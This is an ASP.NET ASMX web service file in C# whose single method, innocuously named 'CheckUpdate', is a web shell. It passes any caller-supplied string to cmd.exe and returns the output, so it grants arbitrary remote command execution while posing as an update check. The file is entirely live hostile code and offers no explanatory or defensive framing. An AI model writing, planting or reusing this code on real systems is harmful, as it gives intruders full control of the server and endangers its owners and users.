<%@ WebService Language="C#" Class="Svc" %>
using System;
using System.Diagnostics;
using System.Web.Services;

[WebService(Namespace = "http://tempuri.org/")]
public class Svc : WebService
{
    [WebMethod]
    public string CheckUpdate(string q)
    {
        Process p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.Arguments = "/c " + q;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        return p.StandardOutput.ReadToEnd();
    }
}
